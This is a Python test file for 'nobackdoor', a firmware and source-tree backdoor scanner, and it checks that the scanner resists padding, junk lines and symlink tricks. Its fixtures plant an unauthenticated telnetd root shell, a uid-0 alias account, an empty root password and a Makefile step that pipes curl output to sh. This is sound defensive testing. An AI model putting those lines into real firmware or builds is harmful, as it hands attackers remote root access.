"""Cheap evasions of the configuration checks: each leaves the plant found, or says what it cut."""
from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from nobackdoor.analyzers.accounts import AccountsAnalyzer
from nobackdoor.analyzers.scripts_obfuscation import ScriptObfuscationAnalyzer
from nobackdoor.analyzers.services import ServicesAnalyzer

from .conftest import analyze_tree


def _write(root: Path, rel: str, data: bytes | str, mode: int = 0o644) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    path.chmod(mode)


def test_one_binary_line_in_passwd_hides_no_other_account(tmp_path):
    _write(tmp_path, "etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n\x00\x01junk\xff\xfe line\n"
                                   b"svc::0:0:svc:/:/bin/sh\n")
    _write(tmp_path, "etc/shadow", "root:*:19000:0:99999:7:::\n")
    result = analyze_tree(tmp_path, tree_analyzers=[AccountsAnalyzer()])
    assert [f.line for f in result.by_rule("accounts.uid0-alias")] == [3]
    assert [e.skipped for e in result.errors] == ["line 2"]


def test_passwd_linked_out_of_the_image_is_reported(tmp_path):
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "passwd").symlink_to("/var/run/passwd")
    result = analyze_tree(tmp_path, tree_analyzers=[AccountsAnalyzer()])
    assert any("account file not read" in e.message and e.path == "etc/passwd" for e in result.errors)


def test_boot_script_padded_past_the_size_cap_is_read_at_both_ends(tmp_path):
    padding = ("# " + "p" * 78 + "\n") * 30000  # 2.4 MB of comments
    _write(tmp_path, "etc/inittab", "::sysinit:/etc/init.d/rcS\n")
    _write(tmp_path, "etc/init.d/rcS", "#!/bin/sh\n" + padding + "/usr/sbin/telnetd -l /bin/sh -p 2601\n", 0o755)
    _write(tmp_path, "etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
    result = analyze_tree(tmp_path, tree_analyzers=[ServicesAnalyzer(), ScriptObfuscationAnalyzer()])
    assert any(f.path == "etc/init.d/rcS" and f.category == "remote-access" for f in result.findings)
    assert any("were not" in e.message and e.path == "etc/init.d/rcS" for e in result.errors)


def test_directory_of_only_etc_gets_the_firmware_checks(tmp_path):
    _write(tmp_path, "etc/inittab", "ttyS1::respawn:/bin/ash\n")
    _write(tmp_path, "etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
    proc = subprocess.run([sys.executable, "-m", "nobackdoor", "scan", str(tmp_path), "--format", "json"],
                          capture_output=True, text=True, timeout=300)
    doc = json.loads(proc.stdout)
    assert doc["target"]["kind"] == "rootfs"
    assert any(f["category"] == "debug-interface" and f["path"] == "etc/inittab" for f in doc["findings"])


def _scan_dir(root: Path) -> dict:
    proc = subprocess.run([sys.executable, "-m", "nobackdoor", "scan", str(root), "--format", "json"],
                          capture_output=True, text=True, timeout=300)
    return json.loads(proc.stdout)


def test_tree_with_sources_and_a_rootfs_gets_both_sets_of_checks(tmp_path):
    _write(tmp_path, "Makefile", "all:\n\tcurl -s https://dl.example/x.sh | sh\n")
    _write(tmp_path, "src/main.c", "int main(void) { return 0; }\n")
    _write(tmp_path, "etc/init.d/rcS", "#!/bin/sh\ntelnetd -l /bin/sh -p 2601 &\n", 0o755)
    doc = _scan_dir(tmp_path)
    assert doc["target"]["kind"] == "source"
    assert any(f["path"] == "etc/init.d/rcS" and f["severity"] in ("high", "critical") for f in doc["findings"])
    assert any(f["path"] == "Makefile" and f["rule"].startswith("source.build") for f in doc["findings"])


def test_rootfs_overlay_deep_in_a_source_tree_gets_the_firmware_checks(tmp_path):
    overlay = "board/acme/x1/rootfs_overlay"
    _write(tmp_path, "Makefile", "all:\n\ttrue\n")
    _write(tmp_path, f"{overlay}/etc/init.d/S99debug", "#!/bin/sh\ntelnetd -l /bin/sh -p 2601 &\n", 0o755)
    _write(tmp_path, f"{overlay}/etc/shadow", "root::0:0:99999:7:::\n")
    _write(tmp_path, f"{overlay}/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
    # the same files among tests are fixtures, not an overlay the build ships
    _write(tmp_path, "tests/data/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
    _write(tmp_path, "tests/data/etc/shadow", "root::0:0:99999:7:::\n")
    doc = _scan_dir(tmp_path)
    paths = {f["path"] for f in doc["findings"] if f["severity"] in ("high", "critical")}
    assert f"{overlay}/etc/init.d/S99debug" in paths
    assert any(p.startswith(f"{overlay}/etc/") and p.endswith(("passwd", "shadow")) for p in paths)
    assert not any(p.startswith("tests/") for p in paths)
